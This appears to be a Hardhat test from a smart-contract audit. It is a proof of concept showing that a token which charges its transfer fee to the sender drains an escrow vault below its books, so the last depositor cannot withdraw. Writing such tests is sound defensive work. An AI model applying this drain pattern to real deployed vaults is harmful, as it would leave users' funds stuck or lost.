// Attack (issue 11, item 8): a token that charges its transfer fee to the SENDER. The recipient
// gets exactly the amount, so a push that checks only the recipient's gain passes, but each
// withdrawal takes amount + fee out of the vault: the vault falls below its books and the last
// user cannot withdraw.
import { expect } from "chai";
import { network } from "hardhat";

const { ethers, networkHelpers } = await network.create();
const { loadFixture } = networkHelpers;
const AMOUNT = 1_000_000n;

async function senderFeeVault() {
  const [owner, alice, bob] = await ethers.getSigners();
  const token = await ethers.deployContract("MockSenderFeeToken");
  const vault = await ethers.deployContract("EscrowVault", [await token.getAddress(), owner!.address]);
  const vaultAddress = await vault.getAddress();
  for (const user of [alice!, bob!]) {
    await token.mint(user.address, 2n * AMOUNT);
    await token.connect(user).approve(vaultAddress, 2n * AMOUNT);
    // The deposit's fee falls on the depositor: the vault receives exactly AMOUNT.
    await vault.connect(user).deposit(AMOUNT);
  }
  return { token, vault, vaultAddress, alice: alice!, bob: bob! };
}

describe("attack: a sender-side-fee token drains the vault below its books", () => {
  it("PoC: the first withdrawal takes amount + fee; the last user cannot withdraw", async () => {
    const { token, vault, vaultAddress, alice, bob } = await loadFixture(senderFeeVault);
    expect(await token.balanceOf(vaultAddress)).to.equal(2n * AMOUNT);
    await vault.connect(alice).withdraw(AMOUNT);
    const left = await token.balanceOf(vaultAddress);
    console.log(`      books ${await vault.balanceOf(bob.address)}, tokens left ${left}`);
    expect(left).to.equal(AMOUNT - AMOUNT / 100n);
    await expect(vault.connect(bob).withdraw(AMOUNT)).to.be.revertedWithCustomError(token, "ERC20InsufficientBalance");
  });
});
